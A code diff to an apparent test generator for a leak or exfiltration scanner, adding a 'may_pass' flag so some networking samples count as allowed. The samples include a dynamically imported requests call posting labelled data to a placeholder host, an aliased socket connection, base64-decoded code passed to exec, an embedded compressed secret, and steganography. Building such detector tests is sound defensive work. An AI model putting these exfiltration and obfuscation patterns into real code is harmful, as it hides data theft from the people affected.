@@ -112,10 +112,10 @@ TECHNIQUES = []
 TEXT = ("txt", "md", "csv", "tsv")
 
 
-def technique(name, title, finds, kinds):
+def technique(name, title, finds, kinds, may_pass=False):
     """`change` takes the text and gives (bytes, first offset, last offset) of what it hid."""
     def register(change):
-        TECHNIQUES.append((name, title, finds, kinds, change))
+        TECHNIQUES.append((name, title, finds, kinds, may_pass, change))
         return change
     return register
 
@@ -431,8 +431,9 @@ def person_columns(text):
     return people("patient_id,surname,forename,value", [f"{row},x,y,{row * 3}" for row in range(30)])
 
 
-def code(name, title, finds, kind, extra):
-    @technique(f"code-{name}", title, finds, (kind,))
+def code(name, title, finds, kind, extra, may_pass=False):
+    """`may_pass`: what research code does every day is on record, and passes."""
+    @technique(f"code-{name}", title, finds, (kind,), may_pass)
     def add(text):
         body = text.encode()
         return body + extra.encode(), len(body), len(body) + len(extra)
@@ -440,8 +441,10 @@ def code(name, title, finds, kind, extra):
 
 
 code("python-socket", "a socket under another name", ("code.networking",), "py", "import socket as s\ns.create_connection(('a', 1))\n")
-code("python-from", "a call imported under another name", ("code.networking",), "py", "from urllib.request import urlopen as u\nu('http://a.example')\n")
-code("python-dynamic", "a module imported by a call", ("code.networking", "code.obfuscation"), "py", "m = __import__('requests')\nm.post('http://a.example', data=LABEL)\n")
+code("python-from", "a call imported under another name", ("code.networking",), "py", "from urllib.request import urlopen as u\nu('http://a.example')\n",
+     may_pass=True)
+code("python-dynamic", "a module imported by a call", ("code.networking", "code.obfuscation"), "py", "m = __import__('requests')\nm.post('http://a.example', data=LABEL)\n",
+     may_pass=True)
 code("python-eval", "a decoded string that is run", ("code.obfuscation",), "py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
 code("python-pickle", "a byte string of a file", ("code.blob",), "py", "DATA = '" + base64.b64encode(gzip.compress(SECRET)).decode() + "'\n")
 code("python-stego", "a library that hides data in pictures", ("code.steganography",), "py", "from stegano import lsb\nlsb.hide('a.png', 'x')\n")
@@ -461,13 +464,13 @@ def make_cases(folder, only):
         name = f"{kind}-control.{kind}"
         (folder / policy / name).write_text(text)
         cases.setdefault(policy, []).append(run.Case(name, (), [], True))
-        for title, _, finds, kinds, change in TECHNIQUES:
+        for title, _, finds, kinds, may_pass, change in TECHNIQUES:
             if kind not in kinds or only not in title:
                 continue
             content, low, high = change(text)
             name = f"{kind}-{title}.{kind}"
             (folder / policy / name).write_bytes(content)
-            cases[policy].append(run.Case(name, (title,), [(finds, [("", low, high)])], False))
+            cases[policy].append(run.Case(name, (title,), [(finds, [("", low, high)])], may_pass))
     return cases
 
 
